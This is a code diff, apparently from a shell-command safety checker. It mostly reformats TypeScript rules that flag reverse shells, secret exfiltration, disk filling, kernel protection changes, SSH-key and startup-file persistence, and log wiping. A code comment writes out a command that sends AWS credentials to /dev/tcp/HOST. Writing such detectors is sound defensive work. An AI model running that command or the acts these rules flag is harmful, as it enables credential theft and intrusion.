@@ -5,8 +5,19 @@ import type { Judgement } from "../judgement.ts";
 import { describeSource } from "../flow.ts";
 import { staticOutput } from "../static-text.ts";
 import {
-  SHELLS, isSensitiveFile, isSystemLog, isAuthorizedKeys, isBlockDevice, isCriticalSystemFile, isHarmlessDevice, isHistoryFile, isLogFile,
-  isNetworkDevice, isSecretPath, isShellStartupFile, normalizePath,
+  SHELLS,
+  isSensitiveFile,
+  isSystemLog,
+  isAuthorizedKeys,
+  isBlockDevice,
+  isCriticalSystemFile,
+  isHarmlessDevice,
+  isHistoryFile,
+  isLogFile,
+  isNetworkDevice,
+  isSecretPath,
+  isShellStartupFile,
+  normalizePath,
 } from "../paths.ts";
 
 const WRITE_OPS = new Set([">", ">|", ">>", "&>", "&>>", ">&", "<>"]);
@@ -35,31 +46,51 @@ export function judgeRedirect(cmd: Cmd, r: { op: string; target: Word | null; st
   if (empties && !append) mode = "truncate";
   judgeWrite(cmd, t, mode, j, { start: r.start, end: r.end }, staticOutput([cmd]));
   if (mode === "overwrite") overwriteOfInput(cmd, t, j, r);
-  if (!append && /^\/dev\/(zero|u?random)$/.test(cmd.args.find((w) => w.text.startsWith("/dev/"))?.text ?? "") && (cmd.name === "cat" || cmd.name === "pv"))
+  if (
+    !append &&
+    /^\/dev\/(zero|u?random)$/.test(cmd.args.find((w) => w.text.startsWith("/dev/"))?.text ?? "") &&
+    (cmd.name === "cat" || cmd.name === "pv")
+  )
     if (!isBlockDevice(normalizePath(t.text))) j.report("fs.fill-disk", cmd.start, r.end);
   if (cmd.name === "yes" && !isHarmlessDevice(normalizePath(t.text))) j.report("fs.fill-disk", cmd.start, r.end);
 }
 
 /** Any write to a path: redirections, tee, cp/mv/install/dd targets. */
-export function judgeWrite(cmd: Cmd, t: Word, mode: WriteMode, j: Judgement, span: { start: number; end: number } = t, content?: string | null) {
+export function judgeWrite(
+  cmd: Cmd,
+  t: Word,
+  mode: WriteMode,
+  j: Judgement,
+  span: { start: number; end: number } = t,
+  content?: string | null,
+) {
   const path = normalizePath(t.text, cmd.cwd);
   if (isHarmlessDevice(path)) return;
   if (isNetworkDevice(path)) {
     if (SHELLS.has(cmd.name) || cmd.compound) j.report("net.reverse-shell", span.start, span.end);
     // `cat ~/.aws/credentials > /dev/tcp/HOST/80`
-    else if (cmd.args.some((w) => isSecretPath(normalizePath(w.text, cmd.cwd))) || (cmd.pipe && cmd.pipe.index > 0 && describeSource(cmd.pipe.stages, cmd.pipe.index).secret))
+    else if (
+      cmd.args.some((w) => isSecretPath(normalizePath(w.text, cmd.cwd))) ||
+      (cmd.pipe && cmd.pipe.index > 0 && describeSource(cmd.pipe.stages, cmd.pipe.index).secret)
+    )
       j.report("net.exfiltrate-secret", cmd.start, span.end);
     return;
   }
   if (isBlockDevice(path)) return j.report("disk.write-device", span.start, span.end);
   if (path === "/proc/sysrq-trigger") return j.report("sys.sysrq", span.start, span.end);
-  if (/^\/proc\/sys\/(kernel\/(randomize_va_space|yama\/ptrace_scope|kptr_restrict|dmesg_restrict|modules_disabled|perf_event_paranoid|unprivileged_bpf_disabled)|fs\/protected_\w+)$/.test(path))
+  if (
+    /^\/proc\/sys\/(kernel\/(randomize_va_space|yama\/ptrace_scope|kptr_restrict|dmesg_restrict|modules_disabled|perf_event_paranoid|unprivileged_bpf_disabled)|fs\/protected_\w+)$/.test(
+      path,
+    )
+  )
     return j.report("sys.protection-off", span.start, span.end);
   if (/^\/(proc\/sys|sys)\//.test(path)) return j.report("sys.kernel-change", span.start, span.end);
   if (isCriticalSystemFile(path)) return j.report("fs.write-critical-file", span.start, span.end);
-  if (isAuthorizedKeys(path)) return j.report(/^\/root\/|^\/var\/root\//.test(path) ? "persist.root-authorized-keys" : "fs.authorized-keys", span.start, span.end);
+  if (isAuthorizedKeys(path))
+    return j.report(/^\/root\/|^\/var\/root\//.test(path) ? "persist.root-authorized-keys" : "fs.authorized-keys", span.start, span.end);
   if (isShellStartupFile(path)) {
-    if (mode === "append" && content != null && startupCodeIsRisky(content, span, j)) return j.report("persist.startup-file-code", span.start, span.end);
+    if (mode === "append" && content != null && startupCodeIsRisky(content, span, j))
+      return j.report("persist.startup-file-code", span.start, span.end);
     return j.report(mode === "append" ? "fs.append-startup-file" : "fs.clobber-startup-file", span.start, span.end);
   }
   if (isSensitiveFile(path)) {
@@ -70,7 +101,10 @@ export function judgeWrite(cmd: Cmd, t: Word, mode: WriteMode, j: Judgement, spa
         const job = line.trim().replace(new RegExp(`^(@\\w+(\\s+\\S+)?\\s+|(\\S+\\s+){${fields}})`), "");
         if (!job || line.trim().startsWith("#") || /^\w+=/.test(line.trim())) continue;
         const found = j.nested(job, span);
-        if (found.some((f) => f.rule.startsWith("exec.") || f.risk === "critical" || f.risk === "high") || /^\S*(\/tmp\/|\/dev\/shm\/|\/\.[^/\s]+\/)/.test(job))
+        if (
+          found.some((f) => f.rule.startsWith("exec.") || f.risk === "critical" || f.risk === "high") ||
+          /^\S*(\/tmp\/|\/dev\/shm\/|\/\.[^/\s]+\/)/.test(job)
+        )
           return j.report("cron.remote-job", span.start, span.end);
       }
     }
@@ -84,7 +118,8 @@ export function judgeWrite(cmd: Cmd, t: Word, mode: WriteMode, j: Judgement, spa
     const intoDir = /\/$/.test(t.text) || /^\/(usr\/)?(s?bin|lib\w*)$/.test(path);
     return j.report(intoDir ? "fs.write-system-file" : "fs.write-system-binary", span.start, span.end);
   }
-  if (mode !== "append" && /^\/var\/(log|run|adm)\/(wtmp|btmp|utmp|lastlog|faillog)$/.test(path)) return j.report("fs.wipe-system-log", span.start, span.end);
+  if (mode !== "append" && /^\/var\/(log|run|adm)\/(wtmp|btmp|utmp|lastlog|faillog)$/.test(path))
+    return j.report("fs.wipe-system-log", span.start, span.end);
   if (mode === "truncate") {
     if (isSystemLog(path)) return j.report("fs.wipe-system-log", span.start, span.end);
     if (isLogFile(path)) return j.report("fs.truncate-log", span.start, span.end);
@@ -94,7 +129,23 @@ export function judgeWrite(cmd: Cmd, t: Word, mode: WriteMode, j: Judgement, spa
 }
 
 /** Programs whose operands are not input files. */
-const NO_INPUT = new Set(["echo", "printf", "touch", "mkdir", "test", "[", "true", ":", "date", "seq", "yes", "ls", "find", "curl", "wget"]);
+const NO_INPUT = new Set([
+  "echo",
+  "printf",
+  "touch",
+  "mkdir",
+  "test",
+  "[",
+  "true",
+  ":",
+  "date",
+  "seq",
+  "yes",
+  "ls",
+  "find",
+  "curl",
+  "wget",
+]);
 
 /** `sort f > f`: the shell truncates f before the command reads it. */
 function overwriteOfInput(cmd: Cmd, t: Word, j: Judgement, r: { start: number; end: number }) {
@@ -129,6 +180,8 @@ function startupCodeIsRisky(content: string, span: { start: number; end: number 
     HIJACKED.test(content) ||
     /\b(LD_PRELOAD|DYLD_INSERT_LIBRARIES)=|PATH=["']?\/(tmp|var\/tmp|dev\/shm)\b/.test(content) ||
     // Running or sourcing something from a temporary or hidden folder at every login.
-    /(^|[\s;&|(])(source\s+|\.\s+|sh\s+|bash\s+|exec\s+|nohup\s+)?\/(tmp|var\/tmp|dev\/shm)\/\S+|(^|[\s;&|(])(source|\.|sh|bash|exec)\s+\S*\/\.[^/\s]+\/\S+/.test(content)
+    /(^|[\s;&|(])(source\s+|\.\s+|sh\s+|bash\s+|exec\s+|nohup\s+)?\/(tmp|var\/tmp|dev\/shm)\/\S+|(^|[\s;&|(])(source|\.|sh|bash|exec)\s+\S*\/\.[^/\s]+\/\S+/.test(
+      content,
+    )
   );
 }
